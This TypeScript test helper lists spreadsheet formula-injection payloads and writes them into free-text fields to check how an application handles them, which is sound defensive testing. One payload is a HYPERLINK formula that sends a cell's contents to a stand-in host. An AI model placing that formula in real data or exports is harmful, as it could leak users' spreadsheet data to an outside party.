/**
 * Text a user might type that a spreadsheet would read as something else: formulas (`=`,
 * `+`, `-`, `@`), a formula behind a tab or a carriage return, a number, a boolean, a quote
 * prefix, and criteria patterns (`*`, `?`, `~`, `>`). `hostile(value, parse)` puts them into
 * every free-text field of a journey's input, keeping each change only where the journey's
 * own validation still accepts the input, so the schema decides what is free text.
 */
export const PAYLOADS = [
  '=HYPERLINK("http://x/?d="&A1,"Click me")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "2024",
  "TRUE",
  "'quoted",
  "N*",
  ">M",
  "Vol?nteers",
  "~users",
] as const;

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

/**
 * A copy of `value` with hostile text at the start of every string the parser accepts
 * changed, and the strings that were changed. Each string gets the next payload in turn,
 * followed by a counter so names stay distinct.
 */
export function hostile<T>(
  value: T,
  parse: (v: unknown) => unknown
): { value: T; changed: string[] } {
  const root = JSON.parse(JSON.stringify(value)) as Json;
  const changed: string[] = [];
  let n = 0;
  const visit = (holder: Json[] | { [k: string]: Json }, key: string | number) => {
    const v = (holder as Record<string | number, Json>)[key];
    if (typeof v === "string") {
      const attempt = `${PAYLOADS[n % PAYLOADS.length]}${n}`;
      (holder as Record<string | number, Json>)[key] = attempt;
      try {
        parse(root);
        changed.push(attempt);
        n++;
      } catch {
        (holder as Record<string | number, Json>)[key] = v;
      }
    } else if (v !== null && typeof v === "object") {
      if (Array.isArray(v)) v.forEach((_x, i) => visit(v, i));
      else Object.keys(v).forEach((k) => visit(v, k));
    }
  };
  const box = { root };
  visit(box as unknown as { [k: string]: Json }, "root");
  return { value: box.root as T, changed };
}
